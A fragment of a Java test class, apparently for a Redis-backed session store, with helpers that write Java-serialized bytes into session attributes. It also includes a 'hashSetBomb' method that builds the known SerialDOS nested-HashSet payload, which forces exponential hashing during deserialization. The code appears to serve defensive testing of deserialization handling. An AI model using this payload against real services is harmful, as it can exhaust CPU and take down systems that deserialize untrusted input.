    private void storeAttribute(String name, byte[] bytes) {
        redis.client().hset(redis.sessionKey(base).getBytes(StandardCharsets.UTF_8),
                ("attr:" + name).getBytes(StandardCharsets.UTF_8), bytes);
    }

    private static byte[] javaSerialized(Object value) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(value);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /**
     * Nested HashSets whose deserialization computes hash codes 2^depth times (Wouter Coekaerts'
     * SerialDOS); writing them costs nothing, as ObjectOutputStream does not hash.
     */
    private static Set<Object> hashSetBomb(int depth) {
        Set<Object> root = new HashSet<>();
        Set<Object> s1 = root;
        Set<Object> s2 = new HashSet<>();
        for (int i = 0; i < depth; i++) {
            Set<Object> t1 = new HashSet<>();
            Set<Object> t2 = new HashSet<>();
            t1.add("foo");
            s1.add(t1);
            s1.add(t2);
            s2.add(t1);
            s2.add(t2);
            s1 = t1;
            s2 = t2;
        }
        return root;
    }
}
